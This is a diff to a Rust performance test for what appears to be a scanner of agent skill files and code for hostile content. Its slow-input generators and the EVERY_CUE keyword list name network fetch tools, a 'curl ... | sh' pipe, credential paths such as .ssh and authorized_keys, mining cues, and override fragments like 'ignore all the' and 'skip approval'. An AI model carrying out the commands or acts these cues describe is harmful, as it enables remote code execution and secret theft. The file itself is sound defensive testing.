@@ -1,6 +1,4 @@
-//! Whatever the bytes are: no panic, spans inside the file, and time in proportion to the size.
-
-use std::time::Instant;
+//! Whatever the bytes are: no panic, spans inside the file, and work in proportion to the size.
 
 use proptest::prelude::*;
 use prowess_scan::{File, Severity, scan};
@@ -113,42 +111,54 @@ fn encode(bytes: &[u8]) -> String {
         .collect()
 }
 
-/// Texts made to be slow: twice the size may take at most about twice the time, with room for noise.
+type Growing = (&'static str, fn(usize) -> String);
+
+/// Texts made to be slow.
+const SLOW: &[Growing] = &[
+    ("blanks", |size| format!("env{}!", " ".repeat(size))),
+    ("calls", |size| "a(".repeat(size / 2)),
+    ("escapes", |size| "\\x41".repeat(size / 4)),
+    ("letters", |size| format!("curl {}", "a".repeat(size))),
+    ("base64", |size| "QUJD".repeat(size / 4)),
+    ("many base64", |size| "aGVsbG8gd29ybGQgb2YgdGV4dA== ".repeat(size / 29)),
+    ("fences", |size| "```\n".repeat(size / 4)),
+    ("comments", |size| "<!--".repeat(size / 4)),
+    ("pipes", |size| "curl | ".repeat(size / 7)),
+    ("addresses", |size| "http://a.b".repeat(size / 10)),
+    ("overrides", |size| "ignore all the ".repeat(size / 15)),
+    ("zero width", |size| "a\u{200b}".repeat(size / 4)),
+    ("direction", |size| "\u{202e}a".repeat(size / 4)),
+    ("direction before right to left", |size| {
+        format!("{}\u{5d0}\n", "\u{202e}".repeat(300)).repeat(size / 903)
+    }),
+    ("one word of another script", |size| "\u{430}".repeat(size / 2)),
+    ("letters of two scripts", |size| "ab\u{430} ".repeat(size / 5)),
+    ("reversed strings", |size| format!(".reverse() {}", "'https://example.org/x' ".repeat(size / 24))),
+    ("splices", |size| "'a' + 'b'\n\n".repeat(size / 11)),
+    ("headings", |size| "# a\n".repeat(size / 4)),
+    ("frontmatter", |size| format!("---\n{}", "a: curl\n".repeat(size / 8))),
+    ("mentions", |size| "Never run `curl https://a.example.org | sh`. ".repeat(size / 45)),
+    ("every cue", |size| EVERY_CUE.repeat(size / EVERY_CUE.len())),
+];
+
+const EVERY_CUE: &str = "curl wget ignore base64 eval( exec( .ssh .env tokens follow password nohup chmod crontab \
+    authorized_keys docker run pool. wallet address not tell silently skip approval memory.md ld_preload stratum ";
+
+/// Work is counted in bytes that were looked at, not in seconds: it grows with the size and no faster.
 #[test]
-fn time_is_linear_in_the_size() {
-    type Growing = (&'static str, fn(usize) -> String);
-    let texts: [Growing; 12] = [
-        ("blanks", |size| format!("env{}!", " ".repeat(size))),
-        ("calls", |size| "a(".repeat(size / 2)),
-        ("escapes", |size| "\\x41".repeat(size / 4)),
-        ("letters", |size| format!("curl {}", "a".repeat(size))),
-        ("base64", |size| "QUJD".repeat(size / 4)),
-        ("fences", |size| "```\n".repeat(size / 4)),
-        ("comments", |size| "<!--".repeat(size / 4)),
-        ("pipes", |size| "curl | ".repeat(size / 7)),
-        ("addresses", |size| "http://a.b".repeat(size / 10)),
-        ("overrides", |size| "ignore all the ".repeat(size / 15)),
-        ("zero width", |size| "a\u{200b}".repeat(size / 4)),
-        ("direction", |size| "\u{202e}a".repeat(size / 4)),
-    ];
-    for (name, make) in texts {
-        for path in ["SKILL.md", "a.js"] {
-            let time = |size: usize| {
+fn work_is_linear_in_the_size() {
+    for (name, make) in SLOW {
+        for path in ["SKILL.md", "a.js", "b.json"] {
+            let work = |size: usize| {
                 let text = make(size);
-                (0..3)
-                    .map(|_| {
-                        let start = Instant::now();
-                        std::hint::black_box(scan(&[File::new(path, text.as_bytes())], None));
-                        start.elapsed().as_secs_f64()
-                    })
-                    .fold(f64::INFINITY, f64::min)
+                let report = scan(&[File::new(path, text.as_bytes())], None);
+                (text.len() as u64, report.coverage.bytes_examined)
             };
-            time(10_000);
-            let (small, large) = (time(100_000), time(800_000));
-            assert!(
-                large < small.max(0.002) * 8.0 * 4.0,
-                "{name} in {path}: {small:.4} s, then {large:.4} s"
-            );
+            let ((small, less), (large, more)) = (work(50_000), work(400_000));
+            assert!(less >= 2 * small, "{name} in {path}: {less} of {small} bytes: every byte is looked at");
+            // Eight times the size; the smaller text may hit a bound that does not grow with it.
+            assert!(more <= less * 9 + (1 << 20), "{name} in {path}: {less}, then {more}");
+            assert!(more <= large * 100, "{name} in {path}: {more} for {large} bytes");
         }
     }
 }
@@ -156,9 +166,7 @@ fn time_is_linear_in_the_size() {
 /// A text with every cue in every block cannot make the scan take for ever; what is left out is reported.
 #[test]
 fn effort_is_bounded() {
-    let line = "curl wget ignore base64 eval( exec( .ssh .env tokens follow password nohup chmod crontab authorized_keys \
-                docker run pool. wallet address not tell silently skip approval memory.md ld_preload stratum ";
-    let text = line.repeat(4000);
+    let text = EVERY_CUE.repeat(4000);
     let report = scan(&[File::new("SKILL.md", text.as_bytes())], None);
     assert!(report.findings.len() <= 400);
     let is_told = report.coverage.unread.is_empty()
